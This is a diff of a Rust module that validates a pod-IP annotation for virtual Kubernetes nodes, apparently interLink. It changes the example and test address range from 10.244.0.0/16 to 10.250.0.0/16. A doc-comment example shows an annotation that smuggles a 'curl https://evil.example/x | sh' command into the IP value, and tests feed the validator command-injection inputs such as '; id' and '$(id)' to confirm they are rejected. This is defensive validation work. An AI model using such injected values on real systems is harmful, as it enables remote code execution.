@@ -28,7 +28,7 @@
 //!
 //! Remove the annotation; with the VPN, interLink picks an address, and no other can be requested. Without the VPN, set
 //! it to a free address in your virtual node's range, and to nothing else. The examples below use the setting
-//! `podIP.cidrs: [10.244.0.0/16]`.
+//! `podIP.cidrs: [10.250.0.0/16]`.
 //!
 //! ## Settings
 //!
@@ -54,7 +54,7 @@
 //! ```yaml
 //! metadata:
 //!   annotations:
-//!     interlink.eu/pod-ip: "10.244.1.100; curl https://evil.example/x | sh"
+//!     interlink.eu/pod-ip: "10.250.1.100; curl https://evil.example/x | sh"
 //! ```
 //!
 //! ```yaml
@@ -68,7 +68,7 @@
 //! ```yaml
 //! metadata:
 //!   annotations:
-//!     interlink.eu/pod-ip: "10.244.1.100"
+//!     interlink.eu/pod-ip: "10.250.1.100"
 //! ```
 
 use std::net::IpAddr;
@@ -213,7 +213,7 @@ mod tests {
         texts.into_iter().next().unwrap_or_default()
     }
 
-    const RANGE: &str = r#"{"cidrs": ["10.244.0.0/16"]}"#;
+    const RANGE: &str = r#"{"cidrs": ["10.250.0.0/16"]}"#;
 
     #[test]
     fn parses_addresses_as_go_does() {
@@ -230,7 +230,7 @@ mod tests {
 
     #[test]
     fn accepts_an_address_in_a_range() {
-        assert_eq!(problem("10.244.1.100", RANGE), "");
+        assert_eq!(problem("10.250.1.100", RANGE), "");
         assert_eq!(problem("2001:db8::5", r#"{"cidrs": ["10.0.0.0/8", "2001:db8::/64"]}"#), "");
     }
 
@@ -238,45 +238,49 @@ mod tests {
     fn rejects_anything_but_an_address() {
         for text in [
             "",
-            " 10.244.1.5",
-            "10.244.1.5 ",
-            "10.244.1.5\n",
-            "10.244.1.5:80",
-            "10.244.1.5/32",
+            " 10.250.1.5",
+            "10.250.1.5 ",
+            "10.250.1.5\n",
+            "10.250.1.5:80",
+            "10.250.1.5/32",
             "[2001:db8::1]",
             "fe80::1%eth0",
-            "010.244.1.5",
-            "10.244.1",
+            "010.250.1.5",
+            "10.250.1",
             "0x0a.244.1.5",
-            "10.244.1.5; id",
+            "10.250.1.5; id",
             "$(id)",
             "١٠.٢٤٤.١.٥",
         ] {
-            assert!(problem(text, r#"{"cidrs": ["0.0.0.0/1", "128.0.0.0/1", "::/1", "8000::/1"]}"#).contains("is not an IP address"), "{text:?}");
+            assert!(
+                problem(text, r#"{"cidrs": ["0.0.0.0/1", "128.0.0.0/1", "::/1", "8000::/1"]}"#)
+                    .contains("is not an IP address"),
+                "{text:?}"
+            );
         }
     }
 
     #[test]
     fn rejects_ipv4_written_as_ipv6() {
         let all = r#"{"cidrs": ["0.0.0.0/1", "128.0.0.0/1", "::/1", "8000::/1"]}"#;
-        for text in ["::ffff:10.244.1.5", "::ffff:0af4:105", "::FFFF:10.244.1.5", "0:0:0:0:0:ffff:af4:105"] {
+        for text in ["::ffff:10.250.1.5", "::ffff:0afa:105", "::FFFF:10.250.1.5", "0:0:0:0:0:ffff:afa:105"] {
             assert!(
-                problem(text, all).ends_with("is an IPv4 address written as IPv6; write it as 10.244.1.5"),
+                problem(text, all).ends_with("is an IPv4 address written as IPv6; write it as 10.250.1.5"),
                 "{text}"
             );
         }
         assert!(
-            problem("64:ff9b::10.244.1.5", all)
-                .ends_with("mixes IPv4 and IPv6 notation; write it as 64:ff9b:0:0:0:0:af4:105")
+            problem("64:ff9b::10.250.1.5", all)
+                .ends_with("mixes IPv4 and IPv6 notation; write it as 64:ff9b:0:0:0:0:afa:105")
         );
-        assert!(problem("::10.244.1.5", all).ends_with("write it as 0:0:0:0:0:0:af4:105"));
+        assert!(problem("::10.250.1.5", all).ends_with("write it as 0:0:0:0:0:0:afa:105"));
     }
 
     #[test]
     fn rejects_an_address_outside_the_ranges() {
         assert_eq!(
-            problem("10.245.1.5", RANGE),
-            "\"10.245.1.5\" is outside the allowed ranges; request an address in 10.244.0.0/16"
+            problem("10.251.1.5", RANGE),
+            "\"10.251.1.5\" is outside the allowed ranges; request an address in 10.250.0.0/16"
         );
         let many = r#"{"cidrs": ["10.0.0.0/24", "10.0.1.0/24", "10.0.2.0/24", "10.0.3.0/24", "fd00::/64"]}"#;
         assert!(problem("10.1.0.5", many).ends_with("10.0.0.0/24, 10.0.1.0/24, 10.0.2.0/24 and 2 more"));
@@ -284,17 +288,17 @@ mod tests {
 
     #[test]
     fn rejects_every_address_without_a_range() {
-        assert!(problem("10.244.1.5", "{}").contains("allow no range of addresses"));
+        assert!(problem("10.250.1.5", "{}").contains("allow no range of addresses"));
     }
 
     #[test]
     fn rejects_reserved_addresses() {
-        for text in ["10.244.0.0", "10.244.0.1", "10.244.255.255"] {
-            assert!(problem(text, RANGE).contains("is reserved in 10.244.0.0/16"), "{text}");
-            assert_eq!(problem(text, r#"{"cidrs": ["10.244.0.0/16"], "allowReserved": true}"#), "");
+        for text in ["10.250.0.0", "10.250.0.1", "10.250.255.255"] {
+            assert!(problem(text, RANGE).contains("is reserved in 10.250.0.0/16"), "{text}");
+            assert_eq!(problem(text, r#"{"cidrs": ["10.250.0.0/16"], "allowReserved": true}"#), "");
         }
-        let any_octet = r#"{"cidrs": ["10.244.0.0/16"], "octetRange": {"min": 0, "max": 255}}"#;
-        for text in ["10.244.0.2", "10.244.255.254", "10.244.3.0", "10.244.3.255"] {
+        let any_octet = r#"{"cidrs": ["10.250.0.0/16"], "octetRange": {"min": 0, "max": 255}}"#;
+        for text in ["10.250.0.2", "10.250.255.254", "10.250.3.0", "10.250.3.255"] {
             assert_eq!(problem(text, any_octet), "", "{text}");
         }
     }
@@ -313,31 +317,31 @@ mod tests {
 
     #[test]
     fn rejects_an_address_reserved_in_one_of_its_ranges() {
-        let nested = r#"{"cidrs": ["10.244.0.0/16", "10.244.1.0/24"]}"#;
-        assert!(problem("10.244.1.255", nested).contains("reserved in 10.244.1.0/24"));
+        let nested = r#"{"cidrs": ["10.250.0.0/16", "10.250.1.0/24"]}"#;
+        assert!(problem("10.250.1.255", nested).contains("reserved in 10.250.1.0/24"));
     }
 
     #[test]
     fn checks_the_last_octet_by_default() {
-        let reserved = r#"{"cidrs": ["10.244.0.0/16"], "allowReserved": true}"#;
-        let both = r#"{"cidrs": ["10.244.0.0/16"], "allowReserved": true, "octetRange": {}}"#;
-        for text in ["10.244.1.0", "10.244.1.1", "10.244.1.251", "10.244.1.255"] {
+        let reserved = r#"{"cidrs": ["10.250.0.0/16"], "allowReserved": true}"#;
+        let both = r#"{"cidrs": ["10.250.0.0/16"], "allowReserved": true, "octetRange": {}}"#;
+        for text in ["10.250.1.0", "10.250.1.1", "10.250.1.251", "10.250.1.255"] {
             assert!(problem(text, RANGE).ends_with("request an address that ends in 2 to 250"), "{text}");
             assert_eq!(problem(text, reserved), "");
             assert!(problem(text, both).ends_with("request an address that ends in 2 to 250"), "{text}");
         }
-        for text in ["10.244.1.2", "10.244.1.250"] {
+        for text in ["10.250.1.2", "10.250.1.250"] {
             assert_eq!(problem(text, RANGE), "");
         }
     }
 
     #[test]
     fn checks_the_last_octet() {
-        let bounded = r#"{"cidrs": ["10.244.0.0/16", "fd00::/64"], "octetRange": {"min": 10, "max": 20}}"#;
-        for text in ["10.244.1.10", "10.244.1.20", "fd00::ff"] {
+        let bounded = r#"{"cidrs": ["10.250.0.0/16", "fd00::/64"], "octetRange": {"min": 10, "max": 20}}"#;
+        for text in ["10.250.1.10", "10.250.1.20", "fd00::ff"] {
             assert_eq!(problem(text, bounded), "");
         }
-        for text in ["10.244.1.9", "10.244.1.21"] {
+        for text in ["10.250.1.9", "10.250.1.21"] {
             assert!(problem(text, bounded).ends_with("request an address that ends in 10 to 20"), "{text}");
         }
     }
